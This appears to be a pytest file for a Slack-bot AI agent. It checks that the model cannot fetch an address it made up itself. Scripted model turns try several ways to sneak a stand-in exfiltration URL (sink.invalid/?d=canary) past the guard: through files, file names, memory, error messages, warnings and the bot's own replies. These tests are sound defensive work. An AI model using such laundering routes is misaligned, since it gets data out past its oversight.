"""A model that makes up an address cannot get anything in its thread to name it."""

from __future__ import annotations

from pathlib import Path

import pytest
from fakes.model_town import scripted_town
from fakes.scripted_model import Scripted, ScriptedModel, call, say
from fakes.town import answers, running_daemon
from fakes.watched_world import watched

from channels.rehearsal.slack import RehearsalSlack
from geode.app import Seams
from geode.llm.routes import ModelRoute
from geode.loop.guards import FAILED_BATCHES_MAX, REPEATS_MAX, REPEATS_WARNED

pytestmark = pytest.mark.timeout(60)
HOST = "sink.invalid"
URL = f"https://{HOST}/?d=canary"
FETCH = call(("web_fetch", {"url": URL}))


def ways_to_launder() -> dict[str, list[Scripted]]:
    """Each makes some stored text hold the address before it is fetched."""
    odd_tool = call((URL, {}))
    return {
        "warning of a repeated call": [*[odd_tool] * REPEATS_WARNED, FETCH],
        "warning of failing calls": [*[call((f"{URL}&{n}", {})) for n in range(3)], FETCH],
        "refusal of a repeated call": [
            *[
                call((URL, {}), ("memory_search", {"query": f"{n}"}))
                for n in range(REPEATS_MAX + 1)
            ],
            FETCH,
        ],
        "file": [
            call(("write_file", {"path": "a.txt", "content": URL})),
            call(("read_file", {"path": "a.txt"}), ("grep_files", {"pattern": "http"})),
            FETCH,
        ],
        "file name": [
            call(("write_file", {"path": f"{URL}/a.txt", "content": "x"})),
            call(("list_files", {"path": "."}), ("list_files", {"path": "https:"})),
            FETCH,
        ],
        "memory": [
            call(("memory_save", {"text": URL})),
            call(("memory_search", {"query": "http"})),
            FETCH,
        ],
        "error texts": [
            call(
                ("read_file", {"path": URL}),
                ("web_fetch", {"url": URL}),
                ("web_fetch", {"url": f"see {URL}"}),
                ("web_fetch", {URL: URL}),
                ("grep_files", {"pattern": f"({URL}"}),
                ("edit_file", {"path": "a", "old": URL, "new": URL}),
            ),
            FETCH,
        ],
        "own words": [call(("list_files", {"path": "."}), text=f"I found {URL}"), FETCH],
        "same batch": [call(("read_file", {"path": URL}), ("web_fetch", {"url": URL}))],
    }


@pytest.mark.parametrize("way", ways_to_launder())
async def test_model_cannot_launder_an_address_within_a_turn(tmp_path: Path, way: str) -> None:
    replies = [*ways_to_launder()[way], FETCH, say(f"It says {URL}")]
    async with scripted_town(tmp_path, replies) as town:
        with watched() as world:
            await town.ask("<@UBOT> hello")

        assert town.model.replies == []
        assert HOST not in world.looked_up


async def test_model_cannot_launder_an_address_through_the_end_of_a_turn(tmp_path: Path) -> None:
    failing = [call((URL, {"n": n})) for n in range(FAILED_BATCHES_MAX)]
    replies = [*failing, FETCH, FETCH, say("ok")]
    async with scripted_town(tmp_path, replies) as town:
        with watched() as world:
            post = await town.ask("<@UBOT> hello")
            assert URL.partition("?")[0] in answers(town.slack, post.ts)[0]
            await town.ask("go on", post.ts)

        assert town.model.replies == []
        assert HOST not in world.looked_up


async def test_address_that_a_person_names_is_looked_up(tmp_path: Path) -> None:
    """The positive control: the same call reaches for an address that was named."""
    replies = [call(("web_fetch", {"url": "http://localhost/?d=canary"})), say("ok")]
    async with scripted_town(tmp_path, replies) as town:
        with watched() as world:
            await town.ask("<@UBOT> look at <http://localhost/?d=canary>")

        assert "localhost" in world.looked_up


async def test_own_words_do_not_come_back_as_earlier_messages(tmp_path: Path) -> None:
    """A new session in an old thread reads what people said there, and not what the bot said."""
    fetches = [FETCH, call(("web_fetch", {"url": "http://localhost/told"})), say("ok")]
    first, second = ScriptedModel([say(f"Look at {URL}")]), ScriptedModel(fetches)
    async with RehearsalSlack() as slack:
        async with running_daemon(slack, tmp_path / "one", seams=seams_of(first)):
            post = await slack.say("<@UBOT> see <http://localhost/told>")
            await slack.wait_for(lambda: any(URL in text for text in answers(slack, post.ts)))
        async with running_daemon(slack, tmp_path / "two", seams=seams_of(second)):
            with watched() as world:
                await slack.say("<@UBOT> go on", thread_ts=post.ts)
                await slack.wait_for(lambda: len(answers(slack, post.ts)) == 2)

    assert second.replies == []
    assert "/told" in second.steps[0].messages[0].text
    assert HOST not in world.looked_up
    assert "localhost" in world.looked_up


def seams_of(model: ScriptedModel) -> Seams:
    """A daemon's seams with this model bound."""
    return Seams(route=ModelRoute(model, "scripted/model", "model", 150_000, 8_000))
